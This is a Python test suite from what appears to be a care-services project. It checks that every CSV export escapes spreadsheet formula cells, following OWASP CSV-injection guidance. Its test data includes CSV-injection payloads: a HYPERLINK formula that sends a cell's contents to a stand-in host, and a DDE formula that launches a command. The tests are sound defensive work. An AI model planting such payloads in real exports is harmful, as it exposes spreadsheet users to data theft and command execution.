"""Every CSV the project writes is opened in a spreadsheet: a cell that
starts as a formula (=HYPERLINK(…), =cmd|' /C calc'!A0, +SUM(…), @SUM(…),
-, tab, CR) is written as text, as OWASP's CSV-injection guidance says,
while numbers (a negative amount) stay numbers.  Each writer of the command
line and the modules is called on rows holding such cells, and no module
or command writes CSV any other way."""
import csv
import datetime as dt
import glob
import io
import os
import re
import sys
import tempfile
import unittest
from decimal import Decimal

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
sys.path.insert(0, os.path.join(ROOT, 'scripts'))
from care_cli import (  # noqa: E402
    demo_county, demo_finance, demo_visits, pay, reconcile, service_list,
    settle)
from care_cli import tabular as cli_tabular  # noqa: E402
from trytond.modules.social_assistance import tabular  # noqa: E402

FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0", '+SUM(1+1)', '@SUM(1+1)', '-1+2', '\t=1+1',
    '\r=1+1', '\uff1dSUM(1)']
# The one module allowed to create a csv writer
HOME = os.path.join('modules', 'social_assistance', 'tabular.py')


def read(path):
    with open(path, encoding='utf-8-sig', newline='') as file:
        return list(csv.reader(file))


class SpreadsheetCellTestCase(unittest.TestCase):
    "Formula cells neutralised in every CSV written"

    def setUp(self):
        self.tmp = tempfile.mkdtemp(prefix='care-cells-')

    def path(self, name):
        return os.path.join(self.tmp, name)

    def assertEscaped(self, cells):
        "The cells are the formulas, each behind a quote"
        self.assertEqual(list(cells), ["'" + f for f in FORMULAS])

    def test_cell(self):
        "Text formulas get a quote; numbers and plain text do not"
        for formula in FORMULAS:
            self.assertEqual(tabular.spreadsheet_cell(formula),
                "'" + formula)
        for value in ['-12.50', '+3', '12', '.5', '-1e3', '张桂兰', '',
                "'=1", Decimal('-12.50'), -3, None]:
            self.assertEqual(tabular.spreadsheet_cell(value), value)

    def test_rejected_rows(self):
        "persons/visits/statement .rejected.csv and the upload's download"
        rows = [(n, [f, '2025-13-01'], 'bad') for n, f in
            enumerate(FORMULAS, start=2)]
        written = cli_tabular.write_rejected(self.path('in.csv'),
            ['a', 'b'], rows, 'line', 'reason')
        self.assertEscaped(r[0] for r in read(written)[1:])
        text = tabular.rejected_csv(['a', 'b'], rows, 'line', 'reason')
        self.assertEscaped(r[0] for r in list(csv.reader(
                    io.StringIO(text)))[1:])

    def test_settlement_export(self):
        path = self.path('settle.csv')
        settle.write_export(path, '2025-03', [{
                    'contract': f'HT-{n}', 'contractor': f, 'persons': 1,
                    'visits': 2, 'gross': Decimal('10'),
                    'deductions': Decimal('22.50'),
                    'net': Decimal('-12.50'), 'state': 'draft'}
                for n, f in enumerate(FORMULAS)], out=io.StringIO())
        rows = read(path)[1:]
        self.assertEscaped(r[2] for r in rows)
        # A negative amount stays a number
        self.assertEqual({r[7] for r in rows}, {'-12.50'})

    def test_reconciliation_export(self):
        path = self.path('reconcile.csv')
        amounts = dict.fromkeys(reconcile.AMOUNTS, Decimal('-1.00'))
        reconcile.write_export(path, [dict(amounts, contract=f'HT-{n}',
                    contractor=f, status='unpaid')
                for n, f in enumerate(FORMULAS)])
        rows = read(path)[1:]
        self.assertEscaped(r[1] for r in rows)
        self.assertEqual({r[2] for r in rows}, {'-1.00'})

    def test_payment_order(self):
        path = self.path('pay.csv')
        pay.write_order(path, [{'number': str(n),
                    'date': dt.date(2025, 4, 1), 'payee': f,
                    'amount': Decimal('12.50'), 'reference': f}
                for n, f in enumerate(FORMULAS)])
        rows = read(path)[1:]
        self.assertEscaped(r[2] for r in rows)
        self.assertEscaped(r[4] for r in rows)

    def test_service_list(self):
        out = io.StringIO(newline='')
        keys = ['month', 'contract', 'contractor', 'id_number', 'name',
            'town', 'village', 'address', 'phone', 'self_care',
            'service_code', 'service', 'unit', 'planned', 'start_date',
            'end_date']
        service_list.write_csv(out, [dict(dict.fromkeys(keys, 'x'),
                    name=f, address=f) for f in FORMULAS])
        rows = list(csv.reader(io.StringIO(out.getvalue())))
        header = rows[0]
        names = service_list.formats()['service_list']
        self.assertEscaped(r[header.index(names['name'])] for r in rows[1:])
        self.assertEscaped(
            r[header.index(names['address'])] for r in rows[1:])

    def test_demo_files(self):
        "The demo's rosters, visit logs and bank statements too"
        path = self.path('roster/persons.csv')
        demo_county.write_roster(path, [{'name': f} for f in FORMULAS])
        rows = read(path)
        column = rows[0].index(
            demo_county.roster_format()['columns']['name'][0])
        self.assertEscaped(r[column] for r in rows[1:])

        path = self.path('visits.csv')
        demo_visits.write(path, [{'caregiver': f} for f in FORMULAS],
            {'caregiver': 'caregiver'})
        self.assertEscaped(r[0] for r in read(path)[1:])

        path = self.path('statement.csv')
        demo_finance._write_bank_statement(path, [{
                    'date': dt.date(2025, 4, 1), 'payee': f,
                    'amount': Decimal(1), 'reference': 'R'}
                for f in FORMULAS])
        self.assertEscaped(r[1] for r in read(path)[1:])

    def test_no_other_writer(self):
        """No module or command writes CSV or XLSX but through tabular's
        SpreadsheetWriter"""
        writer = re.compile(
            r'csv\.(writer|DictWriter)\b|\bWorkbook\(|from csv import')
        offenders = []
        for pattern in ['modules/*/*.py', 'scripts/care_cli/*.py']:
            for path in glob.glob(os.path.join(ROOT, pattern)):
                if os.path.relpath(path, ROOT) == HOME:
                    continue
                with open(path, encoding='utf-8') as file:
                    if writer.search(file.read()):
                        offenders.append(os.path.relpath(path, ROOT))
        self.assertEqual(offenders, [])


if __name__ == '__main__':
    unittest.main()
